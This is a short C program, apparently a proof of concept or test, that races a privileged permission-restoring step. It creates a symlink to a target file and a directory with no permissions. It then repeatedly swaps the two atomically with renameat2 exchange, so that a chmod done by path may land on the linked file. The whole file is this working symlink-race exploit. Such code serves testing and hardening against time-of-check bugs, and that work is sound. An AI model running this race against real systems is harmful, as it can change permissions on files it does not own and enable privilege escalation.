/*
 * A folder without permissions and a link to a file of the user's, swapped in turn: who gives
 * the folder its permissions back by name may change the file's. argv: the file.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { SWAP_SECONDS = 3, SWAP_IN_A_ROW = 200, SWAP_EXCHANGE = 2 };

int main(int argc, char **argv)
{
	struct stat info;
	time_t end = time(NULL) + SWAP_SECONDS;
	(void)argc;
	if (symlink(argv[1], "l") < 0 || mkdir("d", 0) < 0)
		return 1;
	while (time(NULL) < end) {
		for (int i = 0; i < SWAP_IN_A_ROW; i++)
			syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", SWAP_EXCHANGE);
		if (lstat("d", &info) == 0 && S_ISDIR(info.st_mode) && info.st_mode & 0777) {
			rmdir("d");
			mkdir("d", 0);
		}
	}
	puts("TRIED");
	return 0;
}
